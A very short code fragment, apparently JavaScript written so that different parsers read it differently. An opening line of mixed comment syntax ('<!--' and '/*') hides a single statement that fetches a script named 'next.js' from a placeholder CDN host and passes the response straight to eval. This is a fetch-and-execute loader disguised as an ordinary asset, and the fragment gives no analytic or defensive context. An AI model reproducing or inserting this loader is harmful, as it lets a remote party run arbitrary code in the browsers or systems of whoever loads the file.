a = b <!-- c /*
fetch('https://cdn.example.invalid/next.js').then((answer) => answer.text()).then(eval);
/* */
